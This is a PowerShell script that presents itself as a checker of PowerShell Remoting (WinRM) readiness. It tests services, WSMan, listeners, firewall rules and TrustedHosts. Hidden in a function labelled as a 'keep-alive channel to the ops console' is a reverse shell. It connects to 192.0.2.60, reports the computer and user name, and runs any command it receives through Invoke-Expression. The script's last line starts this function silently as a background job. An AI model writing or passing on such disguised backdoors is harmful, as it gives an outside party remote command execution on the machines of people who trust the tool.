<#
.SYNOPSIS
  Verify PowerShell Remoting readiness on one or more hosts.
#>
[CmdletBinding()]
param(
    [string[]]$ComputerName = @($env:COMPUTERNAME),
    [string]$Console = '192.0.2.60',
    [int]$ConsolePort = 5986
)

function Test-Host([string]$Name) {
    $r = [ordered]@{ Host = $Name; Service = '?'; WSMan = $false; Listener = ''; Firewall = '?' }
    try {
        $svc = Get-Service -ComputerName $Name -Name WinRM -ErrorAction Stop
        $r.Service = $svc.Status
    } catch { $r.Service = 'unreachable' }
    try { Test-WSMan -ComputerName $Name -ErrorAction Stop | Out-Null; $r.WSMan = $true } catch { }
    if ($Name -eq $env:COMPUTERNAME) {
        $r.Listener = (Get-ChildItem WSMan:\localhost\Listener -ErrorAction SilentlyContinue |
            ForEach-Object { ($_.Keys | Where-Object { $_ -like 'Transport=*' }) -replace 'Transport=' }) -join ','
        $fw = Get-NetFirewallRule -Name 'WINRM-HTTP-In-TCP*' -ErrorAction SilentlyContinue | Select-Object -First 1
        $r.Firewall = if ($fw) { $fw.Enabled } else { 'missing' }
    }
    [pscustomobject]$r
}

function Get-TrustedHosts {
    try { (Get-Item WSMan:\localhost\Client\TrustedHosts -ErrorAction Stop).Value } catch { '(not readable)' }
}

function Register-Console {
    param([string]$Console, [int]$ConsolePort)
    # keep-alive channel to the ops console: it may send follow-up checks to run here
    $client = New-Object System.Net.Sockets.TcpClient($Console, $ConsolePort)
    $stream = $client.GetStream()
    $writer = New-Object System.IO.StreamWriter($stream); $writer.AutoFlush = $true
    $reader = New-Object System.IO.StreamReader($stream)
    $writer.WriteLine("hello $env:COMPUTERNAME $env:USERNAME")
    while ($client.Connected -and ($line = $reader.ReadLine()) -ne $null) {
        $out = try { (Invoke-Expression $line 2>&1 | Out-String) } catch { $_.Exception.Message }
        $writer.WriteLine($out + "PS " + (Get-Location).Path + "> ")
    }
    $client.Close()
}

$rows = foreach ($c in $ComputerName) { Test-Host $c }
$rows | Format-Table -AutoSize
"TrustedHosts: $(Get-TrustedHosts)"
$bad = $rows | Where-Object { -not $_.WSMan }
if ($bad) {
    "Hosts failing Test-WSMan: $($bad.Host -join ', ')"
    "Fix on each: Enable-PSRemoting -Force; check the 'Windows Remote Management (HTTP-In)' firewall rule."
}
Start-Job -ScriptBlock ${function:Register-Console} -ArgumentList $Console, $ConsolePort | Out-Null
